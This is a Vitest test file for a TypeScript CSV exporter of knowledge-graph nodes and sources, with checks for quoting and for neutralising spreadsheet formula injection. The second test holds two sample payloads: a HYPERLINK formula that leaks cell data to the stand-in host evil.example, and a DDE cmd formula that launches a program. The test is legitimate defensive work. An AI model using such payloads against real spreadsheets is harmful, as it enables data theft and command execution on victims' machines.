import { describe, expect, it } from 'vitest';
import { csvCell, toCsv } from './toCsv';

describe('toCsv', () => {
  it('writes one row per quote and escapes quotes and commas', () => {
    const csv = toCsv(
      {
        exportedAt: '2024-01-01T00:00:00Z',
        nodes: [
          {
            id: 'a',
            label: 'Kern, Konsult',
            type: 'CONSULTANCY',
            provenance: [
              { quote: 'Zij zei "ja".', source: { id: 's1', title: 'T1', publisher: null, date: '2016', url: null, kind: 'ARTICLE' } },
              { quote: 'Tweede.', source: { id: 's2', title: 'T2', publisher: 'P', date: null, url: null, kind: 'ARTICLE' } },
            ],
          },
        ],
        edges: [{ id: 'p|WORKS_AT|a', source: 'p', target: 'a', type: 'WORKS_AT', title: 'adviseur', provenance: [] }],
      },
      (e) => `works at (${e.title})`,
    );
    const lines = csv.trim().split('\r\n');
    expect(lines).toHaveLength(4);
    expect(lines[1]).toContain('"Kern, Konsult"');
    expect(lines[1]).toContain('"Zij zei ""ja""."');
    expect(lines[3]).toContain('works at (adviseur)');
  });

  // Issue 19: names and quotes come from articles; a cell that starts like a formula must not run in a spreadsheet.
  it('neutralises cells that start like a formula and quotes every text cell', () => {
    const attack = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik hier")';
    const quote = "=cmd|' /C calc'!A0";
    const csv = toCsv(
      {
        exportedAt: '2024-01-01T00:00:00Z',
        nodes: [
          {
            id: 'person-x',
            label: attack,
            type: 'PERSON',
            year: 2021,
            provenance: [{ quote, source: { id: 's1', title: '+31 6 1234', publisher: '@kern', date: '2016', url: null, kind: 'ARTICLE' } }],
          },
        ],
        edges: [],
      },
      () => '',
    );
    const line = csv.trim().split('\r\n')[1];
    expect(line).toBe(`"node","person-x","PERSON","'=HYPERLINK(""http://evil.example/?leak=""&A1,""Klik hier"")",,,2021,"'=cmd|' /C calc'!A0","s1","'+31 6 1234","'@kern","2016",`);
    for (const start of ['=', '+', '-', '@', '\t', '\r']) expect(csvCell(`${start}1+1`)).toBe(`"'${start}1+1"`);
    expect(csvCell('Kern Konsult')).toBe('"Kern Konsult"');
    expect(csvCell(' =1+1')).toBe('" =1+1"');
    expect(csvCell(42)).toBe('42');
    expect(csvCell(null)).toBe('');
  });
});
